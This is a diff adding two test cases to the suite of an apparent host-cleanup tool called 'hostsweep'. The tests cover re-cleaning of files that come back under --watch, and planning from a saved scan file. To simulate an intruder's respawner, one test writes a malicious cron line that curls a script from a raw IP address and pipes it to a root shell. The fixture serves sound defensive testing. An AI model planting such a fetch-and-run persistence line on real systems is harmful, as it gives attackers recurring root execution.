@@ -224,6 +224,65 @@ describe('clean and undo on planted trees', () => {
     assert.match(nothing.stdout, /No run to undo/);
   });
 
+  it('--watch cleans again what comes back, as a new undoable run', async () => {
+    const root = tree(plantFootholds);
+    const before = treeManifest(root.dir);
+    const state = stateDir();
+    const line = '*/5 * * * * root curl -fsSL http://185.222.58.10/x.sh | sh\n';
+    let replanted = false;
+    let printed = '';
+    const r = await runClean(
+      {
+        root: root.dir,
+        yes: true,
+        stateDir: state,
+        lang: 'en',
+        now: NOW,
+        collectTo: null,
+        out: (s) => {
+          printed += s;
+          // The intruder's respawner writes a cron file again right after the first clean.
+          if (!replanted && /After cleaning/.test(s)) {
+            replanted = true;
+            fs.writeFileSync(root.p('/etc/cron.d/0sync'), line);
+          }
+        },
+      },
+      { seconds: 1, rounds: 1 },
+    );
+    assert.match(printed, /Checking again for what came back/);
+    assert.deepEqual(r.remaining, []);
+    assert.equal(fs.readFileSync(root.p('/etc/cron.d/0sync'), 'utf8'), '');
+    const runs = listRuns(state);
+    assert.deepEqual(
+      runs.map((x) => x.applied),
+      [11, 1],
+    );
+    for (const run of [...runs].reverse()) await undoRun(run.info.id, { stateDir: state, lang: 'en', ...quiet });
+    fs.rmSync(root.p('/etc/cron.d/0sync'));
+    const diff = manifestDiff(before, treeManifest(root.dir));
+    // Only the cron.d directory's mtime tells that a file was added and removed by the test itself.
+    assert.deepEqual(
+      diff.map((d) => d.split(':')[0]),
+      ['etc/cron.d'],
+    );
+  });
+
+  it('plans from a saved scan document (--from)', () => {
+    const root = tree(plantFootholds);
+    const state = stateDir();
+    const saved = path.join(path.dirname(state), 'scan.json');
+    const s = cli(['scan', '--root', root.dir, '--now', NOW.toISOString(), '--sample', '0', '--json', '-o', saved]);
+    assert.equal(s.status, 1, s.stderr);
+    const dry = cli(['clean', '--root', root.dir, '--state', state, '--from', saved]);
+    assert.equal(dry.status, 1, dry.stderr);
+    assert.match(dry.stdout, /: 11 actions/);
+    fs.writeFileSync(saved, '{"schema":"something/else"}');
+    const bad = cli(['clean', '--root', root.dir, '--state', state, '--from', saved]);
+    assert.equal(bad.status, 2);
+    assert.match(bad.stderr, /is not a hostsweep scan document/);
+  });
+
   it('an apply killed with SIGKILL between actions or in the middle of one is undone completely', async () => {
     const probe = tree(plantFootholds);
     const { result, snapshot } = await scan({ root: probe.dir, now: NOW, sampleMs: 0 });
